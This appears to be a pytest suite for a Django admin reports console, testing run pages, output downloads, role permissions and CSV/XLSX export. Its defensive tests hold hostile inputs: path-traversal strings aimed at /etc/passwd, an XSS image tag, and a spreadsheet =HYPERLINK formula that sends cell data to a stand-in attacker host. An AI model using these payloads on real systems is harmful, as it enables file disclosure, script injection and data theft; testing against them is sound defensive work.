"""Report runs for managers: the pages, who triggered each run, output files, CSV/XLSX export."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta
from pathlib import Path

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django_celery_results.models import TaskResult
from openpyxl import load_workbook

from taskops import services
from taskops.models import AuditEntry, RunRetry
from taskops.services import reports as report_services
from tests.support.poll import poll_until
from tests.support.tasks import send, unique

pytestmark = pytest.mark.django_db(transaction=True)

TASK = "demo.tasks.generate_report"
SLUG = "daily-reports"
INDEX = reverse("admin:taskops_report_changelist")
PAGE = reverse("admin:taskops_report_detail", args=[SLUG])
LOGOUT_FORM = re.compile(r'<form[^>]*action="/admin/logout/"', re.S)


def output_url(task_id: str) -> str:
    return reverse("admin:taskops_report_output", args=[task_id])


def export_url(fmt: str, **query) -> str:
    from django.utils.http import urlencode

    url = reverse("admin:taskops_report_export", args=[SLUG, fmt])
    return f"{url}?{urlencode(query)}" if query else url


def make_run(task_id: str, *, task: str = TASK, status: str = "SUCCESS", ago: timedelta = timedelta(0),
             seconds: float | None = 1.0, result=None, periodic: str | None = None) -> str:
    """A results row as a worker leaves it, ended `ago` before now after running `seconds`."""
    done = timezone.now() - ago
    TaskResult.objects.create(task_id=task_id, task_name=task, status=status, periodic_task_name=periodic,
                              result=json.dumps(result) if result is not None else None)
    # date_created / date_done are auto fields: set them after the insert.
    TaskResult.objects.filter(task_id=task_id).update(
        date_done=done, date_created=done - timedelta(seconds=(seconds or 0) + 1),
        date_started=done - timedelta(seconds=seconds) if seconds is not None else None)
    return task_id


def row_html(page: str, task_id: str) -> str:
    match = re.search(rf'<tr data-run="{re.escape(task_id)}">(.*?)</tr>', page, re.S)
    assert match, f"no row for {task_id}"
    return match.group(1)


def post_forms(page: str) -> list[str]:
    """POST forms one can submit (a submit input or a button), other than the admin's logout."""
    forms = re.findall(r"<form[^>]*>.*?</form>", page, re.S | re.I)
    return [f for f in forms if re.match(r'<form[^>]*method="post"', f, re.I)
            and not LOGOUT_FORM.match(f) and re.search(r'type="submit"|<button', f, re.I)]


@pytest.fixture
def media(settings, tmp_path) -> Path:
    """MEDIA_ROOT for the console and the workers; its reports/ directory exists."""
    settings.MEDIA_ROOT = str(tmp_path / "media")
    (tmp_path / "media" / "reports").mkdir(parents=True)
    return tmp_path / "media"


def test_settings_become_report_definitions(settings):
    from taskops.selectors.reports import report_definitions

    settings.TASKOPS_REPORTS = {"Sales": "demo.tasks.generate_*", "Sales!": ["billing.nightly", " "],
                                "Sales?": ["billing.nightly", "demo.tasks.send_email"], "": TASK}
    config = report_definitions()

    assert [(d.slug, d.task_names) for d in config.definitions] == [
        ("sales", (TASK,)),  # the pattern, matched against the registered tasks
        ("sales-2", ("billing.nightly", "demo.tasks.send_email")),  # exact names kept as given
    ]
    assert len(config.problems) == 2


# --- With a live worker ------------------------------------------------------------------------
def test_the_report_page_shows_real_runs_who_triggered_them_and_serves_their_output(
        role_client, start_worker, media, actor):
    from django_celery_beat.models import IntervalSchedule, PeriodicTask

    start_worker("reports", env={"TASKOPS_MEDIA_ROOT": str(media)})
    every = IntervalSchedule.objects.create(every=1, period=IntervalSchedule.DAYS)
    schedule = PeriodicTask.objects.create(name="nightly <sales>", task=TASK, interval=every,
                                           enabled=False)
    by_user = services.task_send(actor=actor, name=TASK, args=["by-user"], kwargs={},
                                 queue="reports").detail["task_id"]
    # Beat sends a schedule's runs with this header; the results backend keeps it.
    scheduled = send(TASK, args=["nightly"], queue="reports",
                     headers={"periodic_task_name": schedule.name}).id
    external = send(TASK, args=["external"], queue="reports").id
    failed = send(TASK, args=["broken"], kwargs={"day": "not-a-date"}, queue="reports").id
    ended = {by_user: "SUCCESS", scheduled: "SUCCESS", external: "SUCCESS", failed: "FAILURE"}
    poll_until(lambda: TaskResult.objects.filter(task_id__in=ended, status__in=["SUCCESS", "FAILURE"])
               .count() == 4, timeout=30, message="the four report runs end")
    assert services.task_retry(actor=actor, task_ids=[external], include_succeeded=True).ok
    retry = RunRetry.objects.get(original_task_id=external).retry_task_id
    poll_until(lambda: TaskResult.objects.filter(task_id=retry, status="SUCCESS").exists(),
               timeout=30, message="the retry succeeds")

    client = role_client("Managers")
    page = client.get(PAGE).content.decode()

    for task_id, state in {**ended, retry: "SUCCESS"}.items():
        assert f'<span class="taskops-badge {state}">{state}</span>' in row_html(page, task_id)
    assert "sent by acting-user" in row_html(page, by_user)
    scheduled_row = row_html(page, scheduled)
    change = reverse("admin:django_celery_beat_periodictask_change", args=[schedule.pk])
    assert f'<a href="{change}">schedule nightly &lt;sales&gt;</a>' in scheduled_row
    assert "retry by acting-user of" in row_html(page, retry)
    assert reverse("admin:taskops_taskrun_detail", args=[external]) in row_html(page, retry)
    assert "unknown / external" in row_html(page, external)
    assert 'data-output' not in row_html(page, failed)
    assert re.search(r'\d+\.\d+ s</td>', row_html(page, by_user)), "a duration"
    assert 'href="%s"' % reverse("admin:taskops_taskrun_detail", args=[by_user]) in page
    assert re.search(r'<figure data-report-chart><svg [^>]*role="img"', page)

    link = output_url(external)
    assert f'href="{link}"' in row_html(page, external)
    download = client.get(link)
    written = Path(TaskResult.objects.get(task_id=external).result.strip('"'))
    assert download.status_code == 200
    assert download["Content-Type"] == "text/csv"
    assert download["Content-Disposition"] == f'attachment; filename="{written.name}"'
    assert b"".join(download.streaming_content) == written.read_bytes()
    assert written.parent == media / "reports"


# --- Output files ------------------------------------------------------------------------------
@pytest.fixture
def report_file(media) -> tuple[str, bytes]:
    body = b"region,orders\nnorth,12\n"
    (media / "reports" / "q1-2026-03-01.csv").write_bytes(body)
    return make_run("with-output", result=str(media / "reports" / "q1-2026-03-01.csv")), body


@pytest.mark.parametrize(("role", "status"), [("Managers", 200), ("Support", 200), ("Operations", 200),
                                              ("superuser", 200), ("staff", 403)])
def test_the_output_is_served_to_report_viewers_only(role, status, role_client, report_file):
    task_id, body = report_file

    response = role_client(role).get(output_url(task_id))

    assert response.status_code == status
    if status == 200:
        assert b"".join(response.streaming_content) == body
        assert response["Content-Disposition"].startswith("attachment;")
        assert response["X-Content-Type-Options"] == "nosniff"


def test_an_anonymous_visitor_is_sent_to_the_login_page(report_file):
    response = Client().get(output_url(report_file[0]))

    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def _outside(media: Path) -> dict[str, object]:
    """Results a hostile or broken report task could store, none of which may be served."""
    secret = media / "secret.txt"
    secret.write_text("not a report")
    outside_dir = media / "private"
    outside_dir.mkdir()
    (outside_dir / "payroll.csv").write_text("salary")
    reports = media / "reports"
    (reports / "link.csv").symlink_to(secret)
    (reports / "linked-dir").symlink_to(outside_dir, target_is_directory=True)
    (reports / "sub").mkdir()
    return {
        "absolute path elsewhere": "/etc/passwd",
        "relative traversal": "../secret.txt",
        "absolute traversal": f"{reports}/../secret.txt",
        "symlink to a file outside": str(reports / "link.csv"),
        "through a symlinked directory": str(reports / "linked-dir" / "payroll.csv"),
        "relative through a symlinked directory": "linked-dir/payroll.csv",
        "the directory itself": str(reports),
        "a directory inside": str(reports / "sub"),
        "a missing file": str(reports / "gone.csv"),
        "a NUL byte": f"{reports}/a\x00.csv",
        "not a string": {"path": str(reports / "sub")},
        "empty": "",
    }


def test_a_path_outside_the_reports_directory_is_refused(role_client, media):
    cases = _outside(media)
    for number, result in enumerate(cases.values()):
        make_run(f"hostile-{number}", result=result)
    TaskResult.objects.create(task_id="not-json", task_name=TASK, status="SUCCESS", result="{oops")
    client = role_client("Managers")

    for number, (case, _result) in enumerate(cases.items()):
        response = client.get(output_url(f"hostile-{number}"))
        assert response.status_code == 404, case
        assert b"salary" not in response.content and b"not a report" not in response.content
    assert client.get(output_url("not-json")).status_code == 404
    page = client.get(PAGE).content.decode()
    assert "data-output" not in page  # no link to any of them


def test_only_report_runs_have_their_output_served(role_client, media):
    (media / "reports" / "mail.csv").write_text("x")
    other = make_run("not-a-report", task="demo.tasks.send_email", result=str(media / "reports" / "mail.csv"))
    client = role_client("Managers")

    assert client.get(output_url(other)).status_code == 404
    for crafted in ("/admin/taskops/report/output/..%2F..%2F..%2Fetc%2Fpasswd/",
                    "/admin/taskops/report/output/%2Fetc%2Fpasswd/",
                    "/admin/taskops/report/output/with%00nul/"):
        response = client.get(crafted)
        # A NUL never reaches the view: RejectNulMiddleware answers 400 first.
        assert response.status_code in ((400, 404) if "%00" in crafted else (404,)), crafted
        assert b"root:" not in response.content


# --- Pages -------------------------------------------------------------------------------------
def test_the_index_summarises_each_report_over_30_days(role_client, settings, media):
    settings.TASKOPS_REPORTS = {
        "Daily reports": TASK,
        "Mail <jobs>": ["demo.tasks.send_*"],
        "Broken": 42,
    }
    for n in range(1, 11):  # durations 1..10 s, two failures
        make_run(f"r{n}", status="FAILURE" if n in (3, 7) else "SUCCESS", seconds=float(n),
                 ago=timedelta(hours=n))
    make_run("too-old", seconds=500.0, ago=timedelta(days=31))
    make_run("mail-1", task="demo.tasks.send_email", status="FAILURE", seconds=2.0)

    page = role_client("Managers").get(INDEX).content.decode()

    daily = re.search(r'<tr data-report="daily-reports">(.*?)</tr>', page, re.S).group(1)
    assert "<td class=\"taskops-num\" data-report-runs>10</td>" in daily
    assert "data-report-success>80 %" in daily
    assert "5.00 s" in daily and "10.0 s" in daily  # p50 and p95 (nearest rank)
    assert '<span class="taskops-badge SUCCESS">SUCCESS</span>' in daily  # r1, the newest
    assert reverse("admin:taskops_taskrun_detail", args=["r1"]) in daily
    mail = re.search(r'<tr data-report="mail-jobs">(.*?)</tr>', page, re.S).group(1)
    assert "Mail &lt;jobs&gt;" in mail and "demo.tasks.send_email" in mail
    assert "data-report-success>0 %" in mail
    assert "TASKOPS_REPORTS entry &#x27;Broken&#x27; is ignored" in page


def test_the_chart_shows_the_last_30_days(role_client, media):
    make_run("today", seconds=4.0)
    make_run("week-ago", status="FAILURE", seconds=2.0, ago=timedelta(days=7))

    page = role_client("Managers").get(PAGE).content.decode()

    svg = re.search(r"<figure data-report-chart>(<svg .*?</svg>)", page, re.S).group(1)
    assert ('<title id="trend-daily-reports-title">Daily reports: daily duration and success '
            'rate, last 30 days</title>') in svg
    assert "30 days from" in svg and "2 runs ended, 1 succeeded (50 %)" in svg
    assert "duration (s)" in svg and "success rate" in svg
    assert svg.count("<rect") >= 30  # one tooltip column per day
    day = timezone.localdate() - timedelta(days=7)
    assert f"{day.isoformat()}: 1 ended, 0 succeeded (0 %), median 2 s, max 2 s" in svg


def test_a_hostile_report_title_is_escaped(role_client, settings, media):
    settings.TASKOPS_REPORTS = {'<img src=x onerror="alert(1)">': TASK}
    make_run("one")
    client = role_client("Managers")

    for url in (INDEX, reverse("admin:taskops_report_detail", args=["img-srcx-onerroralert1"])):
        page = client.get(url).content.decode()
        assert "<img src=x" not in page and "&lt;img src=x" in page, url


def test_filters_by_state_and_days_and_explains_bad_input(role_client, media):
    make_run("ok-today")
    make_run("failed-today", status="FAILURE")
    make_run("ok-ten-days-ago", ago=timedelta(days=10))
    client = role_client("Managers")
    today = timezone.localdate()

    failures = client.get(PAGE, {"state": "FAILURE"}).content.decode()
    recent = client.get(PAGE, {"since": (today - timedelta(days=2)).isoformat()}).content.decode()
    older = client.get(PAGE, {"until": (today - timedelta(days=5)).isoformat()}).content.decode()
    bad = client.get(PAGE, {"state": "BOGUS", "since": "2026-02-30", "until": "10000-01-01"})

    assert re.findall(r'data-run="([^"]+)"', failures) == ["failed-today"]
    assert set(re.findall(r'data-run="([^"]+)"', recent)) == {"ok-today", "failed-today"}
    assert re.findall(r'data-run="([^"]+)"', older) == ["ok-ten-days-ago"]
    assert bad.status_code == 200
    text = bad.content.decode()
    assert "Select a valid choice" in text and "Enter a valid date" in text
    assert len(re.findall(r'data-run="', text)) == 3  # the bad filters are left out
    backwards = client.get(PAGE, {"since": today.isoformat(), "until": "2000-01-01"}).content.decode()
    assert "The range ends before it starts." in backwards


def _runs_of_all_kinds(count: int, media: Path) -> None:
    """`count` runs, a third scheduled, a third console retries, a third catalog sends."""
    from django_celery_beat.models import IntervalSchedule, PeriodicTask

    every, _ = IntervalSchedule.objects.get_or_create(every=1, period=IntervalSchedule.HOURS)
    for n in range(3):
        PeriodicTask.objects.get_or_create(name=f"sched-{n}", defaults={"task": TASK, "interval": every,
                                                                        "enabled": False})
    (media / "reports" / "out.csv").write_text("x")
    for n in range(count):
        task_id = make_run(f"{unique('run')}", ago=timedelta(minutes=n), periodic=f"sched-{n % 3}"
                           if n % 3 == 0 else None, result=str(media / "reports" / "out.csv"))
        if n % 3 == 1:
            RunRetry.objects.create(original_task_id=f"orig-{task_id}", retry_task_id=task_id,
                                    task_name=TASK)
        elif n % 3 == 2:
            AuditEntry.objects.create(actor_name="alice", action="task.trigger", target=TASK,
                                      outcome="ok", detail={"task_id": task_id})
        elif n == 3:  # a schedule's "run now" from the console: a schedule run, started by a user
            AuditEntry.objects.create(actor_name="bob", action="schedule.run", target="sched-0",
                                      outcome="ok", detail={"task_id": task_id})


def _queries_for_page(client) -> tuple[int, str]:
    with CaptureQueriesContext(connection) as queries:
        page = client.get(PAGE).content.decode()
    return len(queries), page


def test_the_run_list_costs_the_same_queries_for_3_or_60_runs(role_client, media):
    client = role_client("Managers")
    client.get(PAGE)  # the session's first request stores when it started: not the page's cost
    _runs_of_all_kinds(3, media)
    few, page = _queries_for_page(client)
    assert page.count('data-trigger="schedule"') == 1 and page.count('data-trigger="retry"') == 1
    assert page.count('data-trigger="user"') == 1 and page.count("data-output") == 3

    _runs_of_all_kinds(60, media)
    many, page = _queries_for_page(client)

    assert page.count('<tr data-run="') == 50
    assert page.count("run now by bob (schedule sched-0)") == 1
    assert "page 1 of 2" in page and "(63 runs)" in page and "?p=2" in page
    assert many == few, f"{few} queries for 3 runs, {many} for 60"
    assert 'data-trigger="unknown"' not in page


def test_managers_see_reports_and_the_dashboard_and_no_action(role_client, media):
    make_run("one")
    client = role_client("Managers")

    for url in (reverse("admin:index"), INDEX, PAGE):
        page = client.get(url).content.decode()
        assert post_forms(page) == [], url
    index = client.get(reverse("admin:index")).content.decode()
    assert 'id="taskops-dashboard"' in index
    assert f'<a href="{INDEX}">Reports</a>' in index


def test_managers_get_no_action_form_on_any_console_page(role_client, isolated_broker,
                                                        existing_run_and_job, media):
    from tests.integration.test_pages import GET_PAGES

    client = role_client("Managers")
    for (name, args), by_role in GET_PAGES.items():
        response = client.get(reverse(name, args=args))
        if by_role["Managers"] == 200 and response["Content-Type"].startswith("text/html"):
            assert post_forms(response.content.decode()) == [], name
    # The same check finds Operations' forms on a queue's page.
    queue_page = role_client("Operations").get(reverse("admin:taskops_queue_detail", args=["default"]))
    assert post_forms(queue_page.content.decode())


def test_staff_without_the_permission_do_not_see_reports(role_client):
    client = role_client("staff")

    assert INDEX not in client.get(reverse("admin:index")).content.decode()
    assert client.get(INDEX).status_code == 403
    assert client.get(PAGE).status_code == 403


# --- Export ------------------------------------------------------------------------------------
@pytest.fixture
def export_runs(media) -> list[str]:
    from django_celery_beat.models import IntervalSchedule, PeriodicTask

    every = IntervalSchedule.objects.create(every=1, period=IntervalSchedule.HOURS)
    hostile = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
    PeriodicTask.objects.create(name=hostile, task=TASK, interval=every, enabled=False)
    (media / "reports" / "=2+5.csv").write_text("x")  # a file name that starts like a formula
    return [
        make_run("exp-new", seconds=2.5, result=str(media / "reports" / "=2+5.csv"), periodic=hostile),
        make_run("exp-failed", status="FAILURE", seconds=1.0, ago=timedelta(hours=1)),
        make_run("exp-old", seconds=4.0, ago=timedelta(days=3)),
    ]


def test_the_csv_export_holds_the_filtered_runs_with_inert_text(role_client, export_runs):
    client = role_client("Managers")

    response = client.get(export_url("csv", state="SUCCESS"))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(r'attachment; filename="daily-reports-runs-\d{8}-\d{4}\.csv"',
                        response["Content-Disposition"])
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["run id", "task", "state", "started (UTC)", "finished (UTC)", "duration (s)",
                       "triggered by", "output file"]
    assert [r[0] for r in rows[1:]] == ["exp-new", "exp-old"]  # newest first, failures left out
    new = rows[1]
    assert new[1:3] == [TASK, "SUCCESS"] and new[5] == "2.5"
    assert new[6] == 'schedule =HYPERLINK("http://attacker.example/?"&A2,"open")'
    assert new[7] == "'=2+5.csv"  # quoted: a spreadsheet shows it, never computes it
    finished = timezone.localtime(TaskResult.objects.get(task_id="exp-new").date_done)
    assert new[4] == finished.strftime("%Y-%m-%d %H:%M:%S")
    entry = AuditEntry.objects.get(action="report.export")
    assert (entry.target, entry.outcome, entry.params) == ("Daily reports", "ok",
                                                           {"format": "csv", "state": "SUCCESS"})
    assert entry.detail == {"rows": 2} and entry.actor_name.startswith("managers-")


def test_the_xlsx_export_holds_the_runs_as_typed_cells(role_client, export_runs):
    client = role_client("Managers")
    since = (timezone.localdate() - timedelta(days=1)).isoformat()

    response = client.get(export_url("xlsx", since=since))

    assert response.status_code == 200
    assert response["Content-Type"] == ("application/vnd.openxmlformats-officedocument."
                                        "spreadsheetml.sheet")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "run id" and [r[0] for r in rows[1:]] == ["exp-new", "exp-failed"]
    new, failed = rows[1], rows[2]
    assert new[5] == 2.5 and failed[5] == 1.0 and failed[2] == "FAILURE"
    assert new[4] == timezone.localtime(TaskResult.objects.get(task_id="exp-new").date_done).replace(
        tzinfo=None, microsecond=0)
    output = sheet.cell(row=2, column=8)
    assert (output.value, output.data_type) == ("'=2+5.csv", "s")  # text, not a formula
    assert sheet.cell(row=2, column=7).value.startswith("schedule =HYPERLINK(")
    assert AuditEntry.objects.get(action="report.export").params == {"format": "xlsx", "since": since}


def test_support_may_see_reports_but_not_export_them(role_client, export_runs):
    client = role_client("Support")

    assert client.get(PAGE).status_code == 200
    assert "data-export" not in client.get(PAGE).content.decode()
    assert client.get(export_url("csv")).status_code == 403
    assert not AuditEntry.objects.filter(action="report.export").exists()


def test_an_export_over_the_limit_or_in_an_unknown_format_is_refused_with_the_reason(
        role_client, export_runs, monkeypatch):
    monkeypatch.setattr(report_services, "EXPORT_MAX_ROWS", 2)
    client = role_client("Managers")

    too_many = client.get(export_url("csv"), follow=True)
    unknown = client.get(export_url("pdf"), follow=True)
    bad_filter = client.get(export_url("csv", since="yesterday"), follow=True)

    assert "More than 2 runs match: narrow the dates" in too_many.content.decode()
    assert "No export format &#x27;pdf&#x27;" in unknown.content.decode()
    assert "correct the filters first" in bad_filter.content.decode()
    assert client.get(export_url("csv", state="SUCCESS")).status_code == 200  # two runs: allowed
    outcomes = list(AuditEntry.objects.filter(action="report.export").order_by("id")
                    .values_list("outcome", flat=True))
    assert outcomes == ["refused", "refused", "ok"]
